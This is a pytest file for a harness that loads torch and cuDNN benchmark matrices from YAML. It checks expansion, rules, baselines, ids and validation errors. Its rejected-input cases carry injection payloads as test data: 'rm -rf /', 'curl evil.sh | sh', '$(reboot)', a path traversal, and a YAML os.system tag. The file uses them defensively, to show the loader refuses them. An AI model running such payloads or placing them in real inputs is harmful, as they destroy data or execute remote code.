"""Matrix loading: expansion, rules, baseline, stable ids, and every class of invalid input."""

from __future__ import annotations

from pathlib import Path

import pytest

from harness.backends import registry
from harness.errors import InputError
from harness.plan import matrix
from harness.plan.model import Cell, Plan
from tests.conftest import cli_in_process, run_cli
from tests.evidence import GPU_LOCAL_CUDNN_SOURCES

VALID = """
schema_version: 1
name: demo
axes:
  torch: ["2.11.0+cu130", "2.13.0+cpu"]
  cudnn: [bundled, {system: auto}, disabled]
knobs:
  cudnn_benchmark: [false, true]
  tf32: [true]
baseline: {torch: "2.11.0+cu130", cudnn: bundled}
"""
AXIS_END = "  cudnn: [bundled, {system: auto}, disabled]\n"


def load_text(write_matrix, text: str) -> Plan:
    return matrix.load(write_matrix(text), ["gemm", "relu"], registry.cell_problems)


def problems_of(write_matrix, text: str) -> list[str]:
    path = write_matrix(text)
    with pytest.raises(InputError) as caught:
        matrix.load(path, ["gemm", "relu"], registry.cell_problems)
    problems = [str(p) for p in caught.value.problems]
    assert problems and all(p.startswith(f"{path}:") for p in problems), problems
    return problems


def test_expands_the_cartesian_product_and_knob_sets(write_matrix):
    plan = load_text(write_matrix, VALID)
    assert len(plan.cells) == 6
    assert {(c.torch, c.cudnn.label) for c in plan.cells} == {
        (t, s) for t in ("2.11.0+cu130", "2.13.0+cpu") for s in ("bundled", "system:auto", "disabled")
    }
    assert plan.knob_sets == (
        {"cudnn_benchmark": False, "deterministic": False, "tf32": True},
        {"cudnn_benchmark": True, "deterministic": False, "tf32": True},
    )
    assert plan.cell(plan.baseline_id).cudnn.kind == "bundled"
    assert plan.cell(plan.baseline_id).torch == "2.11.0+cu130"


def test_cell_ids_are_stable_readable_and_unique(write_matrix):
    first = load_text(write_matrix, VALID)
    again = load_text(write_matrix, VALID.replace('"2.13.0+cpu"', '"2.12.0+cu128"'))
    ids = [c.id for c in first.cells]
    assert len(set(ids)) == len(ids)
    # adding or removing another value keeps the ids of the cells that stay
    assert {c.id for c in first.cells if c.torch == "2.11.0+cu130"} == {
        c.id for c in again.cells if c.torch == "2.11.0+cu130"
    }
    system = next(c for c in first.cells if c.cudnn.kind == "system" and c.torch == "2.11.0+cu130")
    assert system.id.startswith("torch2.11.0-cu130_cudnn-system-auto_")
    assert Cell.from_json(system.to_json()).id == system.id


def test_exclude_removes_and_include_adds(write_matrix):
    plan = load_text(
        write_matrix,
        VALID
        + """
rules:
  exclude:
    - {torch: "2.13.0+cpu", cudnn: system}
    - {torch: "2.13.0+cpu", cudnn: disabled}
  include:
    - {torch: "2.13.0+cpu", cudnn: {system: "/opt/cudnn/lib"}}
""",
    )
    labels = sorted((c.torch, c.cudnn.label) for c in plan.cells)
    assert ("2.13.0+cpu", "system:auto") not in labels
    assert ("2.13.0+cpu", "disabled") not in labels
    assert ("2.13.0+cpu", "system:/opt/cudnn/lib") in labels
    assert len(plan.cells) == 5


def test_defaults_fill_optional_sections(write_matrix):
    plan = load_text(
        write_matrix,
        """
schema_version: 1
name: tiny
axes: {torch: [installed], cudnn: [bundled]}
baseline: {cudnn: bundled}
""",
    )
    assert plan.backend == "local"
    assert plan.suite.profile == "smoke"
    assert plan.regression_pct == 5.0
    assert plan.knob_sets == ({"cudnn_benchmark": False, "deterministic": False, "tf32": False},)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("axes: [unclosed\n", "invalid YAML", id="bad-yaml"),
        pytest.param(VALID + "name: again\n", "duplicate key 'name'", id="duplicate-key"),
        pytest.param(VALID + "colour: blue\n", "unknown key 'colour'", id="unknown-key"),
        pytest.param(
            VALID.replace("cudnn_benchmark: [false, true]", "cudnn_benchmark: [maybe]"),
            "knobs.cudnn_benchmark[0]",
            id="wrong-type",
        ),
        pytest.param(
            VALID.replace("[bundled, {system: auto}, disabled]", "[]"), "axes.cudnn", id="empty-axis"
        ),
        pytest.param(
            VALID.replace('baseline: {torch: "2.11.0+cu130", cudnn: bundled}', "baseline: {cudnn: bundled}"),
            # the fix too: the axes the cells it matches differ in (walk 3)
            '; add torch to it, e.g. baseline: {..., torch: "2.11.0+cu130"}',
            id="baseline-ambiguous",
        ),
        pytest.param(
            VALID.replace(
                'baseline: {torch: "2.11.0+cu130", cudnn: bundled}',
                'baseline: {torch: "2.9.0+cu126", cudnn: bundled}',
            ),
            "must match exactly one cell; matches none",
            id="baseline-not-a-cell",
        ),
        pytest.param(
            VALID + 'rules:\n  exclude:\n    - {torch: "2.1.0+cu118"}\n',
            "matches no cell",
            id="rule-matches-nothing",
        ),
        pytest.param(
            VALID + 'rules:\n  include:\n    - {torch: "2.13.0+cpu", cudnn: disabled}\n',
            "already a cell",
            id="include-duplicates",
        ),
        pytest.param(
            VALID.replace('"2.13.0+cpu"', '"2.13.0; rm -rf /"'), "axes.torch[1]", id="shell-injection"
        ),
        pytest.param(
            VALID.replace(AXIS_END, AXIS_END + '  base_image: ["ubuntu\\nRUN curl evil.sh | sh"]\n'),
            "axes.base_image[0]",
            id="dockerfile-injection",
        ),
        pytest.param(
            VALID.replace("{system: auto}", '{system: "/usr/lib/../../etc"}'),
            "axes.cudnn[1]",
            id="path-traversal",
        ),
        pytest.param(
            VALID.replace("{system: auto}", '{system: "$(reboot)"}'),
            "axes.cudnn[1]",
            id="command-substitution",
        ),
        pytest.param(
            VALID + 'suite: !!python/object/apply:os.system ["touch /tmp/pwned"]\n',
            "could not determine a constructor",
            id="object-tag",
        ),
        pytest.param("base: &a [1]\n" + VALID + "x: *a\n", "anchors and aliases", id="alias"),
        pytest.param(
            VALID.replace("schema_version: 1", "schema_version: 2"), "expected 1", id="schema-version"
        ),
        pytest.param(
            VALID.replace(AXIS_END, AXIS_END + "  python: [3.10]\n"),
            "write the value in quotes",
            id="unquoted-version",
        ),
        pytest.param(
            VALID + "suite: {workloads: [gemm, warp_drive]}\n",
            "unknown workload 'warp_drive'",
            id="unknown-workload",
        ),
        pytest.param(
            VALID.replace("name: demo\n", "name: demo\nbackend: docker\n").replace(
                '"2.13.0+cpu"', "installed"
            ),
            "'installed' is for the local backend",
            id="installed-on-docker",
        ),
        pytest.param(
            VALID.replace("name: demo\n", "name: demo\nbackend: docker\n")
            .replace('"2.13.0+cpu"', '"2.13.0"')
            .replace(AXIS_END, AXIS_END + '  python: ["3.12"]\n'),
            "names no CUDA variant, so base_image: auto has no image to pick",
            id="plain-version-on-docker-auto-base",
        ),
        pytest.param(
            VALID.replace("{system: auto}", "{system: image}"),
            "needs backend: docker",
            id="system-image-on-local",
        ),
        pytest.param("- just\n- a list\n", "is not of type 'object'", id="not-a-mapping"),
    ],
)
def test_invalid_input_is_refused_with_a_located_message(write_matrix, text, expected):
    problems = problems_of(write_matrix, text)
    assert any(expected in p for p in problems), problems


def test_problems_name_the_file_line_and_field(write_matrix):
    path = write_matrix(VALID.replace("disabled]", "disabled, sometimes]"))
    with pytest.raises(InputError) as caught:
        matrix.load(path, cell_rules=registry.cell_problems)
    (problem,) = caught.value.problems
    assert problem.source == str(path)
    assert problem.line == 5
    assert problem.field == "axes.cudnn[3]"
    assert "bundled | disabled" in problem.message


def test_every_problem_is_reported_at_once(write_matrix):
    problems = problems_of(write_matrix, VALID.replace("name: demo", "name: Demo!") + "colour: blue\n")
    assert len(problems) == 2


def test_cli_exits_2_with_one_line_per_problem_and_no_traceback(write_matrix, tmp_path: Path):
    marker = tmp_path / "pwned"
    path = write_matrix(
        VALID.replace("name: demo", "name: demo\nextra: 1")
        + f'suite: !!python/object/apply:os.system ["touch {marker}"]\n'
    )
    done = cli_in_process("plan", "--matrix", str(path))
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert lines and all(line.startswith(f"error: {path}:") for line in lines)
    assert not marker.exists()


def test_cli_plan_prints_cells_and_json(write_matrix):
    path = write_matrix(VALID)
    table = run_cli("plan", "--matrix", str(path))
    assert table.returncode == 0, table.stderr
    assert "6 cells x 2 knob sets" in table.stdout
    as_json = run_cli("plan", "--matrix", str(path), "--json")
    assert as_json.returncode == 0
    import json

    plan = json.loads(as_json.stdout)
    assert len(plan["cells"]) == 6 and plan["baseline"] in {c["id"] for c in plan["cells"]}


def test_missing_matrix_file_is_a_clear_error(tmp_path: Path):
    done = cli_in_process("plan", "--matrix", str(tmp_path / "nope.yaml"))
    assert done.returncode == 2
    assert "cannot read" in done.stderr and "Traceback" not in done.stderr


def test_the_repository_matrices_are_valid():
    for path in [Path("matrix.yaml"), GPU_LOCAL_CUDNN_SOURCES / "matrix.yaml"]:
        done = run_cli("plan", "--matrix", str(path))
        assert done.returncode == 0, done.stderr


def test_each_unknown_key_is_reported_at_its_own_line_with_what_was_meant(write_matrix):
    text = VALID.replace("  tf32: [true]\n", "  tf32: [true]\n  cudnn_benchmrk: [false]\n  colour: [blue]\n")
    text = text.replace(
        "baseline: {torch", "suite:\n  workloads: [gemm]\n  dtypess: [fp32]\nbaseline: {torch"
    )
    problems = problems_of(write_matrix, text)
    lines = text.lstrip().splitlines()  # as write_matrix writes it
    by_key = {p.split(": ")[1]: p for p in problems}
    for field, key in (
        ("knobs.cudnn_benchmrk", "cudnn_benchmrk"),
        ("knobs.colour", "colour"),
        ("suite.dtypess", "dtypess"),
    ):
        line = next(i for i, text_line in enumerate(lines, 1) if text_line.strip().startswith(key + ":"))
        assert f":{line}: {field}: unknown key '{key}'" in by_key[field], problems
    assert "did you mean 'cudnn_benchmark'?" in by_key["knobs.cudnn_benchmrk"]
    assert "did you mean 'dtypes'?" in by_key["suite.dtypess"]
    assert "did you mean" not in by_key["knobs.colour"]


def test_a_mistyped_cudnn_in_the_baseline_says_what_was_meant_and_what_is_allowed(write_matrix):
    (problem,) = problems_of(write_matrix, VALID.replace("cudnn: bundled}", "cudnn: bundle}"))
    assert "baseline.cudnn: 'bundle' is not allowed; did you mean 'bundled'?" in problem
    assert "expected bundled | disabled | wheel | system" in problem and "given schemas" not in problem


def test_a_mistyped_workload_says_which_was_meant(write_matrix):
    (problem,) = problems_of(write_matrix, VALID + "suite: {workloads: [gemn]}\n")
    assert "suite.workloads[0]: unknown workload 'gemn'; did you mean 'gemm'?" in problem
